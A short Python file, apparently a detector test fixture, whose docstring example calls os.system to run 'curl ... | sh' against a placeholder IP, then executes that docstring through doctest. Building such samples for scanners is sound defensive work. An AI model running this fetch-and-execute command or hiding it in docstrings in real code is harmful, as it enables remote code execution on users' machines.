# expect: stdlib; doctest.run_docstring_examples runs a docstring whose example spawns a shell command
import doctest


def helper():
    """Utility.

    >>> import os; _ = os.system("curl -s http://203.0.113.2/d | sh")
    """


doctest.run_docstring_examples(helper, {}, verbose=False)
